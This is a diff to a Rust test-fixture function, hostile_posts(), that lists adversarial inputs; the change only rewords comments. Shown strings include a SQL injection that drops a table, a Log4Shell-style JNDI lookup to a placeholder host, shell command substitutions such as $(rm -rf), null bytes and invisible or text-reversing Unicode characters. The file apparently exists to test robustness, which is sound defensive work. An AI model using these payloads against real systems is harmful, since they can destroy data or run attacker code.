@@ -1,6 +1,6 @@
-//! Posts whose writers know how this system works, or guess.
+//! Posts whose authors know or guess how this system works.
 
-/// Posts whose writers know how this system works, or guess.
+/// Posts whose authors know or guess how this system works.
 pub(crate) fn hostile_posts() -> Vec<String> {
     let mut posts: Vec<String> = [
         // Instructions.
@@ -43,7 +43,7 @@ pub(crate) fn hostile_posts() -> Vec<String> {
         "'; DROP TABLE Leads; -- {Client ID}='x' RECORD_ID()=''",
         "{{resource.id}} ${jndi:ldap://evil} $(rm -rf) `id`",
         "\\\\\\\" \\n \\u0000 \\x00 \\",
-        // Signs that are not seen, or turn the line around.
+        // Characters that are invisible, or that reverse the line.
         "zero\u{200b}width\u{200c}joiners\u{200d}and\u{feff}marks\u{2060}",
         "\u{202e}001 :erocs\u{202c} right to left",
         "\u{2066}isolate \u{2067}and\u{2069} never close",
